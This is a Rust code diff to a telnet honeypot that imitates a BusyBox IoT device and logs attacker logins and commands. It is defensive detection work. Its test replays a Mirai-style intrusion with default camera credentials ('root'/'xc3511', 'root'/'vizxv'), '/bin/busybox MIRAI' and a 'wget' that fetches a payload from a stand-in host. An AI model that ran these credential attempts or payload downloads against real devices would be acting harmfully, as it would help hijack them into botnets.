@@ -7,7 +7,10 @@ use super::{
 use crate::{
     ANSWER_BYTES_MAX, Findings, Flow, Pause, Session, Step,
     pause::BUSYBOX_MS,
-    shell::{Outcome, device as shell},
+    shell::{
+        Outcome,
+        device::{self as shell, Nested},
+    },
 };
 use alloc::vec::Vec;
 use honeymesh_types::{Signs, WallTime};
@@ -23,6 +26,7 @@ pub struct TelnetSession {
     terminal: Terminal,
     phase: Phase,
     tries: u8,
+    nested: Nested,
     pause: Pause,
     findings: Findings,
 }
@@ -41,19 +45,20 @@ impl TelnetSession {
             terminal: Terminal::default(),
             phase: Phase::Name,
             tries: 0,
+            nested: Nested::default(),
             pause: Pause::default(),
             findings: Findings::default(),
         }
     }
 
-    fn byte(&mut self, byte: u8, answer: &mut Vec<u8>) -> Flow {
+    fn byte(&mut self, byte: u8, now: WallTime, answer: &mut Vec<u8>) -> Flow {
         if matches!(self.phase, Phase::Over) {
             return Flow::Close;
         }
         let secret = matches!(self.phase, Phase::Password { .. });
         match self.terminal.push(byte, secret, answer) {
             Key::None => Flow::Continue,
-            Key::Line(line) => self.line(line, answer),
+            Key::Line(line) => self.line(line, now, answer),
             Key::Interrupt if matches!(self.phase, Phase::Shell) => {
                 answer.extend_from_slice(shell::PROMPT);
                 Flow::Continue
@@ -67,11 +72,11 @@ impl TelnetSession {
         Flow::Close
     }
 
-    fn line(&mut self, line: Vec<u8>, answer: &mut Vec<u8>) -> Flow {
+    fn line(&mut self, line: Vec<u8>, now: WallTime, answer: &mut Vec<u8>) -> Flow {
         match core::mem::replace(&mut self.phase, Phase::Name) {
             Phase::Name => self.name(line, answer),
             Phase::Password { name } => self.password(&name, &line, answer),
-            Phase::Shell => self.command(&line, answer),
+            Phase::Shell => self.command(&line, now, answer),
             Phase::Over => self.close(),
         }
     }
@@ -93,7 +98,7 @@ impl TelnetSession {
         self.findings.signs |= Signs::CREDENTIALS;
         self.tries += 1;
         if self.tries == self.telnet.let_in {
-            answer.extend_from_slice(shell::GREETING);
+            answer.extend_from_slice(shell::greeting(&self.telnet));
             answer.extend_from_slice(shell::PROMPT);
             self.phase = Phase::Shell;
             return Flow::Telling;
@@ -108,13 +113,13 @@ impl TelnetSession {
     }
 
     /// Only who was let in gives commands, and nobody honest was.
-    fn command(&mut self, line: &[u8], answer: &mut Vec<u8>) -> Flow {
+    fn command(&mut self, line: &[u8], now: WallTime, answer: &mut Vec<u8>) -> Flow {
         let is_command = !line.trim_ascii().is_empty();
         if is_command {
             self.findings.note("command", line);
             self.findings.signs |= Signs::RULE;
         }
-        if shell::run(line, &self.telnet, answer) == Outcome::Exit {
+        if shell::run(line, &self.telnet, &mut self.nested, now, answer) == Outcome::Exit {
             return self.close();
         }
         answer.extend_from_slice(shell::PROMPT);
@@ -135,9 +140,9 @@ impl Session for TelnetSession {
         Flow::Continue
     }
 
-    fn receive(&mut self, bytes: &[u8], _now: WallTime, answer: &mut Vec<u8>) -> Step {
+    fn receive(&mut self, bytes: &[u8], now: WallTime, answer: &mut Vec<u8>) -> Step {
         let full = answer.len() + ANSWER_BYTES_MAX - REPLY_BYTES_MAX;
-        Step::by_byte_until_full(bytes, answer, full, |byte, answer| self.byte(byte, answer))
+        Step::by_byte_until_full(bytes, answer, full, |byte, answer| self.byte(byte, now, answer))
     }
 
     fn pause(&mut self) -> Pause {
@@ -146,7 +151,7 @@ impl Session for TelnetSession {
 
     fn end(&mut self) {
         if let (Some(line), false) = (self.terminal.finish(), matches!(self.phase, Phase::Over)) {
-            let _ = self.line(line, &mut Vec::new());
+            let _ = self.line(line, WallTime(0), &mut Vec::new());
         }
         self.phase = Phase::Over;
     }
@@ -164,7 +169,7 @@ mod tests {
     use proptest::prelude::*;
 
     fn session() -> TelnetSession {
-        Telnet::default().session()
+        Telnet::default().named("localhost").unwrap().session()
     }
 
     fn talk(bytes: &[u8]) -> Heard {
@@ -184,7 +189,7 @@ mod tests {
     fn it_begins_as_busybox_does() {
         assert!(talk(b"").answer.starts_with(b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"));
         assert_eq!(shown(&talk(b"")), "localhost login: ");
-        let named = drive::whole(&mut Telnet::new("cam-2").unwrap().session(), b"");
+        let named = drive::whole(&mut Telnet::default().named("cam-2").unwrap().session(), b"");
         assert_eq!(shown(&named), "cam-2 login: ");
     }
 
@@ -194,7 +199,7 @@ mod tests {
             talk(b"root\r\nxc3511\r\nroot\r\nvizxv\r\nenable\r\nsh\r\n/bin/busybox MIRAI\r\nwget http://198.51.100.9/i\r\n");
         assert_eq!(credentials(&heard), [("root", "xc3511"), ("root", "vizxv")]);
         let shown = shown(&heard);
-        assert!(shown.contains("Login incorrect|localhost login: root|Password: |||BusyBox v1.36.1"), "{shown}");
+        assert!(shown.contains("Login incorrect|localhost login: root|Password: |||BusyBox v1."), "{shown}");
         assert!(shown.ends_with("/bin/busybox MIRAI|MIRAI: applet not found|~ # wget http://198.51.100.9/i|~ # "), "{shown}");
         let commands: Vec<_> = heard.reports.iter().filter_map(|(found, _)| found.fields.get("command")).collect();
         assert_eq!(commands, ["enable", "sh", "/bin/busybox MIRAI", "wget http://198.51.100.9/i"]);
